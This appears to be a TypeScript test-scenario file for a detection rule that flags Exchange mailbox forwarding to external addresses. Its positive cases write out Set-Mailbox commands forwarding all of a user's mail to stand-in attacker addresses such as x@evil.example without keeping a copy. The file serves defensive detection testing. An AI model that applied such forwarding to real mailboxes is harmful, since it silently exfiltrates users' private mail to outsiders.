import type { Scenario } from '../../../testing/scenario.ts';
import { T0, userSnapshot } from '../../../testing/sign-ins.ts';
import { auditRecords, cmdlet } from '../fixtures.ts';

const forward = (address: string, extra: Record<string, string> = {}) =>
  cmdlet('Set-Mailbox', {
    Identity: 'ana@fabrikam.example',
    ForwardingSmtpAddress: address,
    DeliverToMailboxAndForward: 'False',
    ...extra,
  });

export const scenarios: Scenario[] = [
  {
    name: 'ForwardingSmtpAddress smtp:x@evil.example without a copy',
    fires: true,
    events: auditRecords([forward('smtp:x@evil.example')]),
    expect: {
      severity: 'high',
      entityId: 'ana@fabrikam.example',
      summaryIncludes: ['forward all mail to x@evil.example without keeping a copy'],
    },
  },
  {
    name: 'admin sets ForwardingAddress to an external contact',
    fires: true,
    events: auditRecords([
      cmdlet(
        'Set-Mailbox',
        { Identity: 'u04@fabrikam.example', ForwardingAddress: 'drop@evil.example' },
        { user_id: 'admin@fabrikam.example' },
      ),
    ]),
    expect: { entityId: 'u04@fabrikam.example', details: { destination: 'drop@evil.example' } },
  },
  { name: 'forwarding cleared (empty value)', fires: false, events: auditRecords([forward('')]) },
  { name: 'forwarding to a colleague', fires: false, events: auditRecords([forward('smtp:u02@fabrikam.example')]) },
  {
    name: 'forwarding to the subsidiary, whose users the tenant has',
    fires: false,
    events: [
      { kind: 'user-snapshot', event: userSnapshot({ user_name: 'lee@northwind.example', time: T0 - 3_600_000 }) },
      ...auditRecords([forward('smtp:lee@northwind.example')]),
    ],
  },
  {
    name: 'forwarding to a configured accepted domain',
    fires: false,
    events: auditRecords([forward('smtp:team@mail.tailspin.example')]),
    settings: {
      msps: {
        'msp-contoso': {
          tenants: { 'tenant-fabrikam': { ruleParams: { 'EXO-003': { internalDomains: ['tailspin.example'] } } } },
        },
      },
    },
  },
  {
    name: 'forwarding to the onmicrosoft.com domain',
    fires: false,
    events: auditRecords([forward('ana@fabrikam.onmicrosoft.com')]),
  },
];
